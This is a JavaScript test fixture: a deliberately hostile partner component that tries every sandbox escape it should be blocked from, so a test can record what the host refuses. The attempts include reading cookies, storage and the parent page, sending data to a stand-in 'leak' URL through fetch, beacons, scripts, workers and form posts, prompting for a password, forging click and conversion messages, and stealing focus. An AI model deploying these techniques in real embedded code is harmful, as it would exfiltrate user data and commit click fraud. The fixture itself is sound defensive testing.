// A hostile partner's bundle. It tries everything that it must not be able to do, and keeps the outcomes for the test.
const { app, socket, leak } = "TARGETS";
const outcomes = {};
globalThis.outcomes = outcomes;

const violations = [];
globalThis.violations = violations;
addEventListener("securitypolicyviolation", ({ effectiveDirective }) => violations.push(effectiveDirective));

async function attempt(name, action) {
  outcomes[name] = "started";
  try {
    outcomes[name] = `done: ${await action()}`;
  } catch (error) {
    outcomes[name] = `refused: ${error?.name ?? error}`;
  }
}

function settled(target, good, bad) {
  return new Promise((resolve, reject) => {
    target[good] = () => resolve(good);
    target[bad] = () => reject(new Error(bad));
    setTimeout(() => reject(new Error("nothing happened")), 2_000);
  });
}

function element(name, attributes) {
  const made = Object.assign(document.createElement(name), attributes);
  document.head.append(made);
  return made;
}

const ATTEMPTS = {
  "read localStorage": () => JSON.stringify(localStorage),
  "read sessionStorage": () => JSON.stringify(sessionStorage),
  "read cookies": () => document.cookie,
  "open IndexedDB": () => settled(indexedDB.open("touchline"), "onsuccess", "onerror"),
  "open the cache": () => caches.keys(),
  "read the shell's storage": () => JSON.stringify(parent.localStorage),
  "read the shell's page": () => parent.document.body.innerHTML,
  "open the viewers' socket": () => settled(new WebSocket(socket, ["touchline.v1", "token"]), "onopen", "onerror"),
  "fetch the app's configuration": () => fetch(`${app}/config.json`).then((answer) => answer.text()),
  "fetch another origin": () => fetch(leak, { mode: "no-cors" }),
  "send a beacon": () => {
    navigator.sendBeacon(leak, "x");
    throw new Error("nothing to observe here");
  },
  "load an image": () => settled(element("img", { src: `${leak}?image` }), "onload", "onerror"),
  "load a script": () => settled(element("script", { src: `${leak}?script` }), "onload", "onerror"),
  "load a style sheet": () => settled(element("link", { rel: "stylesheet", href: `${leak}?style` }), "onload", "onerror"),
  "import a module": () => import(`${leak}?module`),
  "listen to events": () => settled(new EventSource(leak), "onopen", "onerror"),
  "fetch in a worker": () => {
    const code = `fetch("${leak}?worker", {mode: "no-cors"}).then(() => postMessage("sent"), () => postMessage("refused"))`;
    const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    return new Promise((resolve, reject) => {
      worker.onmessage = ({ data }) => (data === "sent" ? resolve(data) : reject(new Error(data)));
      worker.onerror = () => reject(new Error("no worker"));
    });
  },
  "evaluate text": () => new Function("return 1")(),
  "navigate the top": () => {
    top.location.href = `${leak}?top`;
  },
  "open a popup": () => {
    if (!open(`${leak}?popup`)) throw new Error("no window");
  },
  "submit a form to the top": () => {
    element("form", { action: `${leak}?form`, target: "_top", method: "post" }).submit();
    throw new Error("nothing to observe here");
  },
  "download a file": () => {
    element("a", { href: `data:text/plain,x`, download: "x.txt" }).click();
    throw new Error("nothing to observe here");
  },
  "show a dialog": () => {
    if (confirm("Your password?") === false) throw new Error("no dialog");
  },
  "find the viewer": () => new Promise((found, refused) => navigator.geolocation.getCurrentPosition(found, refused)),
};

/** The channel to the shell, caught when the page of the frame uses it. */
let port;
const post = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (...sent) {
  if (typeof sent[0] === "string") port = this;
  return post.apply(this, sent);
};
const send = (message) => post.call(port, typeof message === "string" ? message : JSON.stringify(message));

const OTHER = { componentId: "shirt-home", slot: "side_panel", version: 1, signature: "1623441600.AAAA" };
const FORGERIES = [
  { type: "interact", interaction: "click" },
  { type: "interact", interaction: "conversion", value: 8999 },
  { type: "interact", interaction: "click", ...OTHER },
  { type: "interact", interaction: "click", placement: OTHER },
  { type: "interact", interaction: "impression" },
  { type: "interact", interaction: "dismissal" },
  { type: "interact", interaction: "click", value: "1e999" },
  { action: "interact", matchId: "3788741", interactions: [OTHER] },
  { type: "resize", height: -1 },
  { type: "failed", reason: "x".repeat(2_000) },
  { type: "ready", contract: 99 },
  "{",
];
globalThis.forged = 0;
globalThis.attempts = Object.keys(ATTEMPTS).length;

function forge() {
  for (const message of FORGERIES) {
    send(message);
    parent.postMessage(message, "*");
    parent.postMessage(JSON.stringify(message), "*");
    globalThis.forged += 1;
  }
  send({ type: "resize", height: 100_000 });
}

const steal = () => {
  document.body.tabIndex = 0;
  focus();
  document.body.focus();
};

/** What the partner does when the version of that number is on the screen: a test's own call would be a gesture. */
const ATTACKS = {
  6: async () => {
    for (const [name, action] of Object.entries(ATTEMPTS)) await attempt(name, action);
    forge();
    // The viewer's last gesture was longer ago than browsers count as recent.
    setTimeout(() => {
      steal();
      send(FORGERIES[0]);
      outcomes.end = "refused";
      console.log("has tried everything");
    }, 5_500);
  },
  7: () => {
    addEventListener("click", () => send(FORGERIES[0]));
    console.log("listens to clicks");
  },
  8: () =>
    setInterval(() => {
      steal();
      send(FORGERIES[0]);
      if (document.hasFocus()) console.log("has the focus");
    }, 200),
  9: () => {
    for (let count = 0; count < 1_000; count += 1) send({ type: "resize", height: count });
  },
  10: () => {
    location.href = `${leak}?self`;
  },
};

let react;
export const init = (scope) => {
  react = scope.react;
};
export const get = async () => {
  const React = (await Object.values(react)[0].get())();
  const Hostile = ({ message }) => {
    React.useEffect(() => void ATTACKS[message.version]?.(), [message.version]);
    return React.createElement("button", { type: "button" }, "Win a prize");
  };
  return () => ({ default: Hostile, styles: "" });
};
